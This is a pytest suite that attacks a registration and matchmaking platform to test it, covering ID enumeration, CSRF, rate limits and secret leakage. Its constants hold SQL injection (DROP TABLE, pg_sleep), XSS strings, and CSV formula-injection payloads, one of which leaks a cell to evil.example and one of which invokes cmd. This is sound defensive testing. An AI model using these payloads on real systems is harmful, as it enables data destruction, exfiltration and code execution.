"""Hostile callers against registration and matchmaking running as processes: a participant
trying every id of another's, injection in every text field, forged cross-site posts, a flood
of public writes, and a hunt for secrets in logs and error pages."""
from __future__ import annotations

import csv
import io
import json

import pytest
import requests

from services.registration.manage import create_organiser
from shared.access import CSRF_COOKIE, SESSION_COOKIE
from tests.support.platform import Platform, SignedInPerson
from tests.support.registrations import registration_payload

SQL = "Robert'); DROP TABLE registrations; --"
SCRIPT = "<script>alert('xss')</script>"
IMAGE = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
SLEEP = "x' OR pg_sleep(5) IS NULL --"
HOSTILE_TEXT = (SQL, SCRIPT, IMAGE, FORMULA, AT_FORMULA, SLEEP)


def hostile_payload(email: str) -> dict:
    """A registration whose every free-text field carries an attack."""
    payload = registration_payload(email)
    payload["organisation"].update(legal_name=SQL, address=IMAGE, city=SLEEP[:100], capabilities=SCRIPT,
                                   products=FORMULA)
    payload["delegates"][0].update(full_name=SCRIPT, designation=AT_FORMULA)
    return payload


@pytest.fixture
def platform(services, platform_env, signing_keys) -> Platform:
    platform = Platform(services, platform_env, signing_keys)
    platform.migrate("registration", "matchmaking")
    platform.start(webs=("registration", "matchmaking"), workers=("registration", "matchmaking"), threads=4)
    return platform


@pytest.fixture
def two_companies(platform, run_id):
    """Company A (every text hostile) and company B, both approved, each with a meeting request to
    the same officer; the officer's and both companies' ids."""
    hostile = requests.post(platform.url("registration", "/api/v1/registrations"),
                            json=hostile_payload(f"a.{run_id}@alpha.example.in"), timeout=10)
    assert hostile.status_code == 201, hostile.text
    a = hostile.json()
    platform.confirm_emails(a["id"])
    platform.decide(a["id"])
    b = platform.approved_company(f"b.{run_id}@bravo.example.in", name="Bravo Secret Systems Private Limited")
    officer = platform.add_officer(f"officer.{run_id}@navy.example.in")
    platform.wait_in_matchmaking(a["id"], officer)
    platform.wait_in_matchmaking(b["id"])
    platform.set_frame()
    requests_by = {}
    for company, agenda in ((a, SCRIPT + " " + FORMULA), (b, "Bravo's confidential sonar roadmap")):
        answer = requests.post(platform.url("matchmaking", "/api/v1/requests"), headers=platform.delegate(company["id"]),
                               json={"receiver": f"officer:{officer}", "agenda": agenda}, timeout=10)
        assert answer.status_code == 201, answer.text
        requests_by[company["id"]] = answer.json()["id"]
    return a, b, officer, requests_by


def test_a_participant_cannot_reach_another_participants_data_by_any_id(platform, two_companies):
    a, b, officer, requests_by = two_companies
    as_a = platform.delegate(a["id"])
    b_delegate = platform.delegate_ids(b["id"])[0]
    b_ids = [b["id"], b_delegate, requests_by[b["id"]], officer]
    # B's name is no secret (matchmaking recommends companies to each other); its people and plans are.
    secrets_of_b = ("bravo.example.in", "confidential sonar roadmap", b["reference"], b_delegate)

    seen = []
    for service in ("registration", "matchmaking"):
        document = requests.get(platform.url(service, "/api/v1/openapi.json"), timeout=10).json()
        for path, operations in document["paths"].items():
            for method, operation in operations.items():
                names = [p["name"] for p in operation.get("parameters", []) if p["in"] == "path"]
                if not names or operation["x-access"] == "public":
                    continue
                for identifier in b_ids:
                    url = path
                    for name in names:
                        url = url.replace("{" + name + "}", identifier if name != "action" else "pin")
                    answer = requests.request(method, platform.url(service, url), headers=as_a, json={}, timeout=10)
                    seen.append((service, method, url, answer.status_code))
                    assert answer.status_code in (401, 403, 404, 409, 422), (service, method, url, answer.text)
                    assert not any(secret in answer.text for secret in secrets_of_b), (service, method, url)
    assert len(seen) >= 40, "the enumeration reached the routes that take ids"

    for service, path in (("registration", "/api/v1/me"), ("registration", "/me"), ("matchmaking", "/api/v1/me/requests"),
                          ("matchmaking", "/api/v1/me/agenda"), ("matchmaking", "/me"),
                          ("matchmaking", "/api/v1/me/agenda.ics")):
        answer = requests.get(platform.url(service, path), headers=as_a, timeout=10)
        assert answer.status_code == 200, (service, path)
        assert not any(secret in answer.text for secret in secrets_of_b), (service, path)
    # B's delegate and B's request are untouched by A's attempts.
    assert platform.delegate_ids(b["id"]) == [b_delegate]
    mine = requests.get(platform.url("matchmaking", "/api/v1/me/requests"), headers=platform.delegate(b["id"]),
                        timeout=10).json()
    assert [(r["id"], r["status"]) for r in mine["sent"]] == [(requests_by[b["id"]], "pending")]


def test_hostile_text_is_stored_as_typed_and_shown_inert(platform, two_companies):
    a, _b, officer, requests_by = two_companies
    assert platform.count("registration", "SELECT count(*) FROM registrations") == 2, "the table is still there"

    mine = requests.get(platform.url("registration", "/api/v1/me"), headers=platform.delegate(a["id"]), timeout=10)
    assert mine.json()["registration"]["legal_name"] == SQL
    assert mine.json()["delegates"][0]["full_name"] == SCRIPT and mine.json()["delegates"][0]["designation"] == AT_FORMULA

    organiser = platform.organiser("vetting")
    pages = [requests.get(platform.url("registration", "/me"), headers=platform.delegate(a["id"]), timeout=10),
             requests.get(platform.url("registration", f"/admin/registrations/{a['id']}"), headers=organiser,
                          timeout=10),
             requests.get(platform.url("registration", "/admin/registrations"), headers=organiser, timeout=10),
             requests.get(platform.url("matchmaking", "/me"), headers=platform.officer(officer), timeout=10)]
    for page in pages:
        assert page.status_code == 200, page.url
        assert "<script>alert" not in page.text and "<img src=x" not in page.text, page.url
    assert "&lt;script&gt;alert(" in pages[1].text and "&lt;img src=x onerror" in pages[1].text
    assert "&lt;script&gt;alert(" in pages[3].text, "the officer sees the hostile agenda, escaped"

    export = requests.get(platform.url("registration", "/admin/registrations.csv"), headers=organiser, timeout=10)
    cells = [cell for row in csv.reader(io.StringIO(export.text)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], "a spreadsheet would run a formula"
    assert "'" + AT_FORMULA in cells, "the typed text is kept, defused"

    calendar = requests.get(platform.url("matchmaking", "/api/v1/me/agenda.ics"), headers=platform.delegate(a["id"]),
                            timeout=10)
    assert calendar.status_code == 200
    received = requests.get(platform.url("matchmaking", "/api/v1/me/requests"), headers=platform.officer(officer),
                            timeout=10).json()["received"]
    assert {r["agenda"] for r in received if r["id"] == requests_by[a["id"]]} == {SCRIPT + " " + FORMULA}


def test_cross_site_posts_are_refused_for_signed_in_browsers(platform, two_companies):
    a, _b, _officer, requests_by = two_companies
    token = platform.delegate(a["id"])["Authorization"].split()[1]
    browser = requests.Session()
    browser.cookies.set(SESSION_COOKIE, token)
    browser.get(platform.url("registration", "/me"), timeout=10)  # the page sets the CSRF cookie
    assert CSRF_COOKIE in browser.cookies

    attempts = [
        browser.post(platform.url("matchmaking", f"/api/v1/requests/{requests_by[a['id']]}/cancel"), json={},
                     timeout=10),
        browser.post(platform.url("matchmaking", f"/api/v1/requests/{requests_by[a['id']]}/cancel"), json={},
                     headers={"X-CSRF-Token": "forged"}, timeout=10),
        browser.post(platform.url("registration", "/api/v1/me/cancel"), json={}, timeout=10),
        browser.post(platform.url("registration", "/me/cancel"), data={}, timeout=10),
        requests.post(platform.url("registration", "/access"), data={"email": "a@b.in"}, timeout=10),
    ]
    assert [a.status_code for a in attempts] == [403] * 5
    assert all("csrf_failed" in a.text or "came from elsewhere" in a.text for a in attempts)
    status = requests.get(platform.url("registration", f"/api/v1/registrations/{a['id']}/status"), timeout=10)
    assert status.json()["status"] == "approved", "nothing was cancelled"
    honest = SignedInPerson()
    honest.cookies.update(browser.cookies)
    assert honest.post(platform.url("matchmaking", f"/api/v1/requests/{requests_by[a['id']]}/cancel"),
                       json={}).status_code == 200, "the same post with the CSRF token goes through"


def test_public_writes_are_rate_limited_per_address(services, platform_env, signing_keys, run_id):
    platform = Platform(services, platform_env, signing_keys)
    platform.migrate("registration")
    url = services.web("registration", extra_env={"PUBLIC_WRITE_RATE_LIMIT": "5/minute"})
    answers = [requests.post(f"{url}/api/v1/registrations", json=registration_payload(f"r{i}.{run_id}@flood.in"),
                             timeout=10) for i in range(7)]
    guesses = [requests.post(f"{url}/api/v1/auth/token", json={"email": "admin@dpd.in", "password": f"guess{i}"},
                             timeout=10) for i in range(3)]
    assert [a.status_code for a in answers] == [201] * 5 + [429] * 2
    assert int(answers[-1].headers["Retry-After"]) > 0 and answers[-1].json()["error"] == "too_many_requests"
    assert [g.status_code for g in guesses] == [429] * 3, "password guessing counts against the same limit"
    assert platform.count("registration", "SELECT count(*) FROM registrations") == 5


def test_secrets_never_appear_in_logs_or_error_pages(platform, two_companies, services, platform_env, signing_keys,
                                                     run_id, tmp_path):
    a, _b, _officer, _requests = two_companies
    password = "correct horse battery staple 42"
    create_organiser(["--email", f"admin.{run_id}@dpd.in", "--name", "Asha Admin", "--roles", "admin"],
                     {**platform_env, "DPD_ORGANISER_PASSWORD": password})
    signed_in = requests.post(platform.url("registration", "/api/v1/auth/token"),
                              json={"email": f"admin.{run_id}@dpd.in", "password": password}, timeout=10)
    api_token = signed_in.json()["token"]
    participant_token = platform.delegate(a["id"])["Authorization"].split()[1]
    error_pages = [
        requests.post(platform.url("registration", "/api/v1/auth/token"),
                      json={"email": f"admin.{run_id}@dpd.in", "password": password + "x"}, timeout=10),
        requests.get(platform.url("registration", "/admin/registrations"),
                     headers={"Authorization": f"Bearer {api_token[:-3]}xyz", "Accept": "text/html"},
                     allow_redirects=False, timeout=10),
        requests.get(platform.url("registration", "/no-such-page"), headers={"Accept": "text/html"}, timeout=10),
        requests.post(platform.url("registration", "/api/v1/registrations"), json={"edition": password}, timeout=10),
        requests.get(platform.url("matchmaking", "/api/v1/me/agenda"),
                     headers={"Authorization": f"Bearer {participant_token}x"}, timeout=10),
        requests.post(platform.url("registration", "/admin/sign-in"), data={"email": "x", "password": password},
                      timeout=10),
    ]
    assert [p.status_code for p in error_pages] == [401, 302, 404, 422, 401, 403]

    private_key = signing_keys[0].read_text()
    secrets = {
        "organiser password": password,
        "API token": api_token,
        "participant token": participant_token,
        "WEB_SECRET_KEY": platform_env["WEB_SECRET_KEY"],
        "PERSONAL_DATA_KEY": platform_env["PERSONAL_DATA_KEY"],
        "BADGE_SIGNING_SECRET": platform_env["BADGE_SIGNING_SECRET"],
        "signing key": "".join(private_key.strip().splitlines()[1:-1])[:40],
        "identity document": "Z1234567",
        "database password": platform_env["REGISTRATION_DATABASE_URL"].split(":")[2].split("@")[0],
    }
    services.stop_all()  # flush and close every log
    logs = {path.name: path.read_text(errors="replace") for path in tmp_path.glob("*.log")}
    assert len(logs) >= 4
    for name, secret in secrets.items():
        for log_name, text in logs.items():
            assert secret not in text, f"{name} appears in {log_name}"
        for page in error_pages:
            assert secret not in page.text, f"{name} appears in the answer to {page.request.method} {page.url}"
    assert any(json.loads(line).get("message") for text in logs.values() for line in text.splitlines()
               if line.startswith("{")), "the logs were read (structured lines)"
